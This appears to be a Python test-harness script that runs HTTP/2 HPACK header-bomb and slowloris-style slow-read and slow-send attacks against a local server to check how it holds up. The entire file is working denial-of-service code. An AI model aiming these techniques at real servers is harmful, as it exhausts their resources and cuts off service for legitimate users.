"""Clients that mean ill, in one process.

    besieger.py bomb PORT PATH CONNECTIONS FIELDS LIST
        each opens as many streams over HTTP/2 with TLS as it may, asks on each with a head of FIELDS fields (0: as many
        as fit the server's limit, LIST bytes where it tells none) that takes a byte a field, and never opens a window
    besieger.py slow PORT PATH CONNECTIONS
        half of them take one byte a second of an answer, half send one byte a second of a head; who is cut comes back

Both say "held" when all are there, stay until this process reads a line, and write one line of JSON.
"""

from __future__ import annotations

import json
import resource
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from client import IP_BIND_ADDRESS_NO_PORT, PATIENCE, PER_SOURCE, Wrong, request_for

# RFC 9113 section 6.
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_HEADER_LIST_SIZE = 3, 4, 6
LONGEST_FRAME = 16 << 10
# What a field counts beside its name and value (RFC 9113 section 6.5.2).
FIELD_OVERHEAD = 32
STREAMS_UNTOLD = 100

# How long a server that says nothing more is listened to.
SILENCE = 1.0

# A byte a second from each, spread over so many turns.
TURNS = 20
# The smallest that the kernel gives: what a slow reader does not take stays with the server.
SMALLEST_BUFFER = 1


def connect(port: int, number: int, buffer: int | None = None) -> socket.socket:
    """A connection from an address that has ports to spare."""
    sock = socket.socket()
    if buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    sock.bind((f"127.0.0.{128 + number // PER_SOURCE}", 0))
    sock.settimeout(PATIENCE)
    sock.connect(("127.0.0.1", port))
    return sock


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


@dataclass
class Bomber:
    """One connection whose streams all wait."""

    conn: ssl.SSLSocket
    received: bytes = b""
    settings: dict[int, int] = field(default_factory=dict)
    ended: bool = False

    def hello(self) -> None:
        """No stream may be sent a byte of a body; then hears what the server allows."""
        window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
        self.conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, window))
        for kind, flags, _, payload in self.frames():
            if kind == SETTINGS and not flags & ACK:
                self.settings = dict(struct.iter_unpack(">HI", payload))
                self.conn.sendall(frame(SETTINGS, ACK, 0, b""))
                return
        raise Wrong("the server does not speak HTTP/2")

    def bomb(self, path: str, fields: int, untold: int) -> tuple[int, int]:
        """Asks on every stream that there may be. How many there are, and the fields of each."""
        streams = self.settings.get(MAX_CONCURRENT_STREAMS, STREAMS_UNTOLD)
        limit = self.settings.get(MAX_HEADER_LIST_SIZE, untold)
        authority = b"127.0.0.1"
        # GET, https, and two that are written out, without being remembered (RFC 7541 section 6.2.2, appendix A).
        head = b"\x82\x87" + b"\x04" + _text(path.encode()) + b"\x01" + _text(authority)
        used = len(":method:schemeGEThttps:path:authority") + len(path) + len(authority) + 4 * FIELD_OVERHEAD
        fields = fields or (limit - used) // (FIELD_OVERHEAD + len("xy"))
        # Remembered once, and meant by one byte from then on (sections 6.2.1 and 6.1).
        first = head + b"\x40" + _text(b"x") + _text(b"y") + b"\xbe" * (fields - 1)
        later = head + b"\xbe" * fields
        for number in range(streams):
            self._ask(2 * number + 1, later if number else first)
        return streams, fields

    def _ask(self, stream: int, block: bytes) -> None:
        pieces = [block[at : at + LONGEST_FRAME] for at in range(0, len(block), LONGEST_FRAME)]
        ends = [0] * (len(pieces) - 1) + [END_HEADERS]
        kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
        opening = [END_STREAM] + [0] * (len(pieces) - 1)
        sent = zip(kinds, ends, opening, pieces, strict=True)
        try:
            self.conn.sendall(b"".join(frame(kind, end | flag, stream, piece) for kind, end, flag, piece in sent))
        except OSError:
            self.ended = True

    def listen(self, streams: int) -> None:
        """Until every stream is answered or refused, or nothing more is said."""
        answered: set[int] = set()
        self.conn.settimeout(SILENCE)
        for kind, _, stream, _ in self.frames():
            if kind == DATA:
                raise Wrong("a body came, and no window was open")
            if kind in (HEADERS, RST_STREAM):
                answered.add(stream)
            if len(answered) == streams:
                return

    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        """What comes, until nothing does."""
        while not self.ended:
            while len(self.received) >= 9 + (length := int.from_bytes(self.received[:3])):
                if len(self.received) < 9 + length:
                    break
                kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
                payload, self.received = self.received[9 : 9 + length], self.received[9 + length :]
                yield kind, flags, stream, payload
            try:
                some = self.conn.recv(64 << 10)
            except TimeoutError:
                return
            except OSError:
                some = b""
            self.received += some
            self.ended = self.ended or not some

    def is_open(self) -> bool:
        """Whether the server still keeps it."""
        self.conn.settimeout(0.01)
        for kind, _, _, _ in self.frames():
            self.ended = self.ended or kind == GOAWAY
        return not self.ended


def _text(text: bytes) -> bytes:
    """A string of HPACK, shorter than 127 bytes (RFC 7541 section 5.2)."""
    return bytes([len(text)]) + text


def bomb(port: int, path: str, count: int, fields: str, untold: str) -> dict[str, float]:
    """Every connection with all its streams."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    bombers, streams, sent = [], 0, 0
    for number in range(count):
        bomber = Bomber(context.wrap_socket(connect(port, number)))
        bomber.hello()
        opened, sent = bomber.bomb(path, int(fields), int(untold))
        bomber.listen(opened)
        bombers.append(bomber)
        streams += opened
    wait_for_a_line(lambda: None, 1.0)
    return {"open": sum(bomber.is_open() for bomber in bombers), "streams": streams, "fields": sent}


@dataclass
class Snail:
    """One who takes, or sends, a byte at a time."""

    port: int
    number: int
    request: bytes
    reads: bool
    sock: socket.socket | None = None
    sent: int = 0
    came: int = 0

    def come(self) -> None:
        """Connects; a reader asks for everything."""
        self.sock = connect(self.port, self.number, SMALLEST_BUFFER if self.reads else None)
        self.sent, self.came = 0, self.came + 1
        if self.reads:
            self.sock.sendall(self.request)
        self.sock.setblocking(False)

    def creep(self) -> None:
        """One byte. Whoever was cut comes back a second later."""
        if self.sock is None:
            return self.come()
        try:
            if self.reads:
                ended = not self.sock.recv(1)
            else:
                # Never its last byte.
                self.sock.send(self.request[self.sent : self.sent + 1])
                self.sent = min(self.sent + 1, len(self.request) - 2)
                ended = False
        except BlockingIOError:
            ended = False
        except OSError:
            ended = True
        if ended:
            self.sock.close()
            self.sock = None


def slow(port: int, path: str, count: int) -> dict[str, float]:
    """All of them, each once a second."""
    # Long enough to send a byte of it a second for as long as any bench takes.
    long = request_for(port, path)[:-2] + b"x: " + b"y" * 1000 + b"\r\n\r\n"
    snails = [Snail(port, number, request_for(port, path) if number % 2 else long, bool(number % 2)) for number in range(count)]
    for snail in snails:
        snail.come()
    turn = 0

    def creep() -> None:
        nonlocal turn
        for snail in snails[turn % TURNS :: TURNS]:
            snail.creep()
        turn += 1

    wait_for_a_line(creep, 1 / TURNS)
    return {"came": sum(snail.came for snail in snails)}


def wait_for_a_line(meanwhile: Callable[[], None], every: float) -> None:
    """Says that all are there, and stays."""
    print("held", flush=True)
    due = time.monotonic()
    while not select.select([sys.stdin], [], [], max(0.0, due - time.monotonic()))[0]:
        meanwhile()
        due += every
    sys.stdin.readline()


def main() -> None:
    """Does what its arguments say."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    mode, port, path, count, *more = sys.argv[1:]
    modes: dict[str, Callable[..., dict[str, float]]] = {"bomb": bomb, "slow": slow}
    try:
        said = modes[mode](int(port), path, int(count), *more)
    except (Wrong, OSError) as error:
        raise SystemExit(f"{error or type(error).__name__}") from error
    print(json.dumps(said), flush=True)


if __name__ == "__main__":
    main()
